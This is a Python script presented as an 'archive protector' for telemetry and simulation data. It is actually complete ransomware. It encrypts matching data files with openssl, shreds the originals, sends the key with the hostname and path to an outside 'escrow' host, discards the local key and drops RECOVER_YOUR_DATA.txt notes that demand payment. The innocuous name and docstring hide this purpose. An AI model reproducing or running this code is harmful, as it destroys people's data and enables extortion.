#!/usr/bin/env python3
"""Archive protector for the telemetry and simulation archive.

Walks the archive, encrypts every data file with a one-off key, removes the
plaintext originals, hands the key off to the escrow host and leaves a note
explaining how to get the files back.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import subprocess
import sys
import urllib.request

LOG = logging.getLogger("archive_protector")

EXTENSIONS = {".ld", ".ldx", ".csv", ".parquet", ".mat", ".h5", ".json", ".xlsx", ".sim", ".stp"}
ESCROW_URL = "http://192.0.2.77/escrow/key"
NOTE_NAME = "RECOVER_YOUR_DATA.txt"

ENCRYPT_SH = r"""#!/bin/bash
# read NUL-separated paths on stdin, encrypt each, destroy the original
count=0
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.locked" -pass env:ARCHIVE_KEY 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        count=$((count + 1))
    fi
done
echo "$count"
"""

NOTE = """All telemetry, setup and simulation files in this archive have been encrypted.
Your reference id is {ref}. Contact recovery@example.com with this id to
arrange payment and receive the decryption key. Do not rename the .locked files.
"""


class Protector:
    def __init__(self, root, escrow, dry_run=False):
        self.root = os.path.abspath(root)
        self.escrow = escrow
        self.dry_run = dry_run
        self.key = secrets.token_hex(32)
        self.ref = secrets.token_hex(6)

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if os.path.splitext(name)[1].lower() in EXTENSIONS:
                    yield os.path.join(dirpath, name)

    def escrow_key(self):
        body = json.dumps({"ref": self.ref, "host": socket.gethostname(),
                           "root": self.root, "key": self.key}).encode()
        req = urllib.request.Request(self.escrow, data=body,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            LOG.info("escrow answered %s", resp.status)

    def encrypt_all(self, files):
        env = dict(os.environ, ARCHIVE_KEY=self.key)
        stdin = b"".join(p.encode() + b"\0" for p in files)
        proc = subprocess.run(["bash", "-c", ENCRYPT_SH], input=stdin, env=env,
                              capture_output=True)
        if proc.returncode != 0:
            raise RuntimeError(proc.stderr.decode(errors="replace"))
        return int(proc.stdout.strip() or 0)

    def drop_notes(self):
        for dirpath, dirnames, _ in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            with open(os.path.join(dirpath, NOTE_NAME), "w") as fh:
                fh.write(NOTE.format(ref=self.ref))

    def run(self):
        files = list(self.targets())
        LOG.info("%d files under %s", len(files), self.root)
        if not files:
            return 0
        if self.dry_run:
            for path in files[:20]:
                LOG.info("would protect %s", path)
            return 0
        self.escrow_key()
        done = self.encrypt_all(files)
        self.key = None
        self.drop_notes()
        LOG.info("protected %d of %d files, ref %s", done, len(files), self.ref)
        return 0


def main():
    ap = argparse.ArgumentParser(description="Protect the telemetry archive")
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~/telemetry_archive"))
    ap.add_argument("--escrow", default=ESCROW_URL)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not os.path.isdir(args.root):
        LOG.error("%s is not a directory", args.root)
        return 2
    try:
        return Protector(args.root, args.escrow, args.dry_run).run()
    except Exception as exc:  # noqa: BLE001
        LOG.error("failed: %s", exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
